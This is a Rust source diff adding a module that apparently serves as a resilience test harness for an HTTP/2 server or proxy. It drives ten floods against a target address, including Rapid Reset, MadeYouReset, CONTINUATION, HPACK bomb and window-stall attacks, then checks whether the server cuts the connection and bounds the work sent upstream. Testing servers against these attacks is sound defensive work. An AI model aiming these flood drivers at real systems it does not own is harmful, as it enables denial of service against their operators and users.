@@ -1,0 +1,193 @@
+//! Attacks by amount: many cheap HTTP/2 frames, and peers that are slow on purpose.
+
+mod frames;
+pub mod slow;
+
+use crate::backend::{Backend, Event, Script};
+use crate::h2::frame;
+use crate::h2::{Connection, Ending, State};
+use anyhow::Result;
+use std::net::SocketAddr;
+use std::time::Duration;
+use tokio::time::{Instant, interval};
+
+/// An HTTP/2 flood.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Flood {
+    /// Streams that the client resets at once.
+    RapidReset,
+    /// Streams that the client makes the server reset.
+    MadeYouReset,
+    /// A header block that never ends.
+    Continuation,
+    /// PING.
+    Ping,
+    /// SETTINGS.
+    Settings,
+    /// WINDOW_UPDATE.
+    WindowUpdate,
+    /// PRIORITY.
+    Priority,
+    /// Content without content.
+    EmptyData,
+    /// A small block that decodes to a large one.
+    HpackBomb,
+    /// Streams whose answer is let out byte by byte.
+    WindowStall,
+}
+
+/// How a flood went.
+#[derive(Clone, Debug)]
+pub struct Outcome {
+    /// Which flood.
+    pub flood: Flood,
+    /// Units sent when the end was noticed.
+    pub sent: usize,
+    /// How the connection ended.
+    pub ending: Option<Ending>,
+    /// When.
+    pub elapsed: Duration,
+    /// Requests that reached the upstream.
+    pub forwarded: usize,
+    /// What came back.
+    pub state: State,
+}
+
+/// More requests than this at the upstream is not bounded work.
+const FORWARDED: usize = 1100;
+/// Units sent between two looks at what came back.
+const BATCH: usize = 20;
+/// Streams of a window stall.
+const STALLED: u32 = 100;
+
+impl Flood {
+    /// All of them.
+    pub const ALL: [Self; 10] = [
+        Self::RapidReset,
+        Self::MadeYouReset,
+        Self::Continuation,
+        Self::Ping,
+        Self::Settings,
+        Self::WindowUpdate,
+        Self::Priority,
+        Self::EmptyData,
+        Self::HpackBomb,
+        Self::WindowStall,
+    ];
+
+    /// What is sent, in words.
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::RapidReset => "HEADERS and RST_STREAM",
+            Self::MadeYouReset => "HEADERS and WINDOW_UPDATE of 0",
+            Self::Continuation => "CONTINUATION",
+            Self::Ping => "PING",
+            Self::Settings => "SETTINGS",
+            Self::WindowUpdate => "WINDOW_UPDATE",
+            Self::Priority => "PRIORITY",
+            Self::EmptyData => "empty DATA",
+            Self::HpackBomb => "HPACK: one 4 KB entry, 16000 references",
+            Self::WindowStall => "100 streams, windows opened 1 byte at a time",
+        }
+    }
+}
+
+impl Outcome {
+    /// Whether it ended in time, with bounded work.
+    pub fn ok(&self) -> bool {
+        self.forwarded <= FORWARDED
+            && match self.flood {
+                Flood::HpackBomb => {
+                    self.forwarded == 0 && (self.ending.is_some() || self.refused())
+                }
+                Flood::WindowStall => {
+                    self.ending.is_some() || self.state.resets.len() == STALLED as usize
+                }
+                _ => self.ending.is_some(),
+            }
+    }
+
+    fn refused(&self) -> bool {
+        self.state.resets.contains_key(&1) || matches!(self.state.statuses.get(&1), Some(400 | 431))
+    }
+
+    /// What ended it, in words.
+    pub fn words(&self) -> String {
+        let resets = self.state.resets.len();
+        let status = self.state.statuses.values().next();
+        let end = match (&self.ending, status) {
+            (Some(Ending::GoAway(code)), _) => format!("GOAWAY {}", frame::error_name(*code)),
+            (Some(Ending::Closed), _) => "closed".to_owned(),
+            (Some(Ending::Reset(_)) | None, _) if resets > 0 => format!("{resets} streams reset"),
+            (_, Some(status)) if self.flood == Flood::HpackBomb => format!("answered {status}"),
+            _ => "survived".to_owned(),
+        };
+        let seconds = self.elapsed.as_secs_f32();
+        format!("{end} after {} sent, {seconds:.1} s, {} forwarded", self.sent, self.forwarded)
+    }
+}
+
+/// Runs a flood of `count` units; a stall is watched for `patience`.
+pub async fn run(
+    flood: Flood,
+    count: usize,
+    address: SocketAddr,
+    backend: &Backend,
+    patience: Duration,
+) -> Result<Outcome> {
+    backend.begin(Script::Answer);
+    let start = Instant::now();
+    let (sent, state) = match flood {
+        Flood::WindowStall => stall(address, patience).await?,
+        _ => flow(flood, count, address).await?,
+    };
+    let elapsed = start.elapsed();
+    let whole = |seen: &&crate::backend::Seen| matches!(seen.event, Event::Whole(_));
+    let forwarded = backend.seen().iter().filter(whole).count();
+    Ok(Outcome { flood, sent, ending: state.ending(), elapsed, forwarded, state })
+}
+
+async fn flow(flood: Flood, count: usize, address: SocketAddr) -> Result<(usize, State)> {
+    let connection = Connection::open(address, &[], true).await?;
+    let (opening, count) = match flood {
+        Flood::HpackBomb => (frames::bomb(), 0),
+        _ => (frames::opening(flood), count),
+    };
+    let mut sent = 0;
+    let mut open = connection.send(&opening).await.is_ok();
+    while open && sent < count && connection.state().ending().is_none() {
+        let batch: Vec<u8> =
+            (sent..count.min(sent + BATCH)).flat_map(|n| frames::unit(flood, n)).collect();
+        open = connection.send(&batch).await.is_ok();
+        sent = count.min(sent + BATCH);
+        // Lets what came back be noticed, so that the number of units until the end is near the truth.
+        connection.wait(Duration::from_millis(1), |state| state.ending().is_some()).await;
+    }
+    let bomb = flood == Flood::HpackBomb;
+    let over = |state: &State| {
+        state.ending().is_some() || bomb && !(state.statuses.is_empty() && state.resets.is_empty())
+    };
+    Ok((sent, connection.wait(Duration::from_secs(3), over).await))
+}
+
+async fn stall(address: SocketAddr, patience: Duration) -> Result<(usize, State)> {
+    // Setting 4: the initial window of each stream.
+    let connection = Connection::open(address, &[(4, 0)], false).await?;
+    let mut requests = Vec::new();
+    for n in 0..STALLED {
+        requests.extend(frames::get(2 * n + 1, "/bytes/65536"));
+    }
+    let mut open = connection.send(&requests).await.is_ok();
+    let over = |state: &State| state.ending().is_some() || state.resets.len() == STALLED as usize;
+    let (start, mut sent) = (Instant::now(), 0);
+    let mut drips = interval(Duration::from_secs(1));
+    while open && start.elapsed() < patience && !over(&connection.state()) {
+        drips.tick().await;
+        let gone = connection.state().resets;
+        let streams = (0..STALLED).map(|n| 2 * n + 1).filter(|stream| !gone.contains_key(stream));
+        let drip: Vec<u8> = streams.flat_map(|stream| frames::window(stream, 1)).collect();
+        sent += drip.len() / frames::window(1, 1).len();
+        open = connection.send(&drip).await.is_ok();
+    }
+    Ok((sent, connection.wait(Duration::from_millis(200), over).await))
+}
